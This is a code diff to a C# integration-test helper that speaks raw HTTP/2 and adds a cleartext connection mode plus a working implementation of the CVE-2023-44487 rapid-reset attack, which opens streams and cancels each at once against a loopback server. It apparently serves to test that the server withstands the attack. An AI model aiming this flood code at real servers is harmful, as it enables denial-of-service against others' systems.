@@ -11,16 +11,57 @@ namespace Sluice.IntegrationTests.Infrastructure;
 /// <c>:authority</c>: what a browser coalescing connections (or an attacker) does, and what
 /// HttpClient cannot be made to do (it picks SNI from the Host). Speaks just enough HTTP/2
 /// (RFC 9113) for GET requests; header blocks are read raw, as Kestrel does not Huffman-code.
+/// Also opens cleartext (h2c prior knowledge) connections, for the rapid-reset attack.
 /// </summary>
 internal sealed class RawHttp2Connection : IAsyncDisposable
 {
-    private const byte Data = 0x0, Headers = 0x1, Settings = 0x4, Ping = 0x6, GoAway = 0x7;
+    private const byte Data = 0x0, Headers = 0x1, RstStream = 0x3, Settings = 0x4, Ping = 0x6, GoAway = 0x7;
     private const byte EndStream = 0x1, EndHeaders = 0x4, Ack = 0x1;
 
-    private readonly SslStream _tls;
+    private readonly Stream _tls;
     private int _nextStream = 1;
 
-    private RawHttp2Connection(SslStream tls) => _tls = tls;
+    private RawHttp2Connection(Stream tls) => _tls = tls;
+
+    /// <summary>HTTP/2 with prior knowledge on a cleartext port (no TLS, no ALPN).</summary>
+    public static async Task<RawHttp2Connection> OpenCleartextAsync(int port)
+    {
+        var socket = new Socket(SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
+        await socket.ConnectAsync(IPAddress.Loopback, port);
+        var connection = new RawHttp2Connection(new NetworkStream(socket, ownsSocket: true));
+        await connection._tls.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray());
+        await connection.WriteFrameAsync(Settings, 0, 0, []);
+        return connection;
+    }
+
+    /// <summary>
+    /// CVE-2023-44487: opens <paramref name="streams"/> requests and resets each at once, never
+    /// reading, as fast as the socket takes them. Returns when all are written or the server
+    /// closed the connection.
+    /// </summary>
+    public async Task RapidResetAsync(string authority, string path, int streams)
+    {
+        var block = new List<byte> { 0x82, 0x86 }; // :method GET, :scheme http (static table)
+        AddLiteral(block, 4, path);
+        AddLiteral(block, 1, authority);
+        var headers = block.ToArray();
+        var cancel = new byte[4];
+        BinaryPrimitives.WriteInt32BigEndian(cancel, 0x8); // CANCEL
+        try
+        {
+            for (var i = 0; i < streams; i++)
+            {
+                var stream = _nextStream;
+                _nextStream += 2;
+                await WriteFrameAsync(Headers, EndStream | EndHeaders, stream, headers);
+                await WriteFrameAsync(RstStream, 0, stream, cancel);
+            }
+        }
+        catch (IOException)
+        {
+            // The server had enough and closed the connection: that is one of the right answers.
+        }
+    }
 
     public static async Task<RawHttp2Connection> OpenAsync(int port, string serverName)
     {
